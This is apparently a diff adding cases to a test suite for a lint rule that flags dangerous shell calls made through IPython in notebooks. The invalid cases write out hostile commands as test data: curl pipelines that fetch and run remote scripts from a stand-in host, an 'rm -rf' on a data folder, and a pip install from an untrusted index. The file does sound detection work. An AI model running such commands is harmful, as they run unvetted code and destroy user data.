@@ -45,6 +45,8 @@ const indentedNb = nb('for i in range(2):\n    !echo {i}\n');
 
 ruleTester(rule, {
   valid: [
+    'ip = server.get_ip()\nip.system("ls")',
+    'import IPython\nshell = IPython.get_ipython()\nshell.kernel.do_shutdown(True)',
     { code: nb('%matplotlib inline\n', 'import numpy as np\nnp.zeros(3)\n'), filename: FILE },
     { code: nb('%load_ext autoreload\n%autoreload 2\n'), filename: FILE },
     { code: nb('%time model.fit(x, y)\n', '%%timeit\nsum(range(10))\n'), filename: FILE },
@@ -59,6 +61,22 @@ ruleTester(rule, {
     "shell.system('pip install x')",
   ],
   invalid: [
+    {
+      name: 'the IPython shell reached through an import and a name',
+      code: 'import IPython\n_ip = IPython.get_ipython()\n_ip.system("curl -fsSL https://x.example/setup.sh | bash")\n_ip.system("pip install -q --index-url https://pypi.x.example/simple torchvision")',
+      errors: [
+        { messageId: 'danger', line: 3, severity: 'high', category: 'process' },
+        { messageId: 'installRisky', line: 4, severity: 'high', category: 'supply-chain' },
+      ],
+    },
+    {
+      code: 'ip = get_ipython()\nip.system("rm -rf ~/data")',
+      errors: [{ messageId: 'danger', line: 2, severity: 'high' }],
+    },
+    {
+      code: 'from IPython import get_ipython as shell\nshell().getoutput("curl https://x.example/a.sh | sh")',
+      errors: [{ messageId: 'danger' }],
+    },
     {
       code: installNb,
       filename: FILE,
